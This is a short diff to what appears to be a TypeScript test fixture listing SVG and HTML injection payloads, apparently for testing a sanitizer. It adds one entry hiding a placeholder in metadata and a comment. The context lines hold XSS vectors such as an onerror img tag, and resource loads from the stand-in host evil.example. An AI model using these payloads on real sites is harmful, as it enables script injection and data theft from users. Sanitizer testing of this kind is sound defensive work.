@@ -33,6 +33,7 @@ export const drawings: Record<string, string> = {
   'a style behind escapes': `<style>\\40 import "https://evil.example/${PAYLOAD}";</style>`,
   'an attribute that loads': `<rect fill="url('//evil.example/${PAYLOAD}')"/>`,
   'a frame': `<iframe src="https://evil.example/${PAYLOAD}"/>`,
+  'a note': `<metadata>${PAYLOAD}</metadata><!-- ${PAYLOAD} -->`,
   'a comment that ends early': `<!--><img src=x onerror=${PAYLOAD}>-->`,
 };
 
